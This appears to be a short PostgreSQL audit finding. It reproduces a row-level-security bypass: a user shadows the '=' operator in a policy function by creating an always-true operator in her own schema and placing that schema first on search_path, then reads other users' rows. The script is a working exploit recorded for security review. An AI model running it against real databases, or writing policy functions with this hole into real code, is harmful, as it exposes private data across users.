-- finding: policy-function-search-path function shop.is_own(whose text)
CREATE SCHEMA mine AUTHORIZATION "alice@example.com";
CREATE FUNCTION shop.is_own(whose text) RETURNS boolean STABLE LANGUAGE sql AS $$ SELECT whose = current_user $$;
ALTER POLICY own ON shop.orders USING (shop.is_own(owner));
-- first as alice@example.com
CREATE FUNCTION mine.yes(text, name) RETURNS boolean IMMUTABLE LANGUAGE sql AS $$ SELECT true $$;
CREATE OPERATOR mine.= (LEFTARG = text, RIGHTARG = name, FUNCTION = mine.yes);
-- leak as alice@example.com
SET search_path = mine, pg_catalog;
SELECT item FROM shop.orders WHERE item OPERATOR(pg_catalog.=) 'secret';
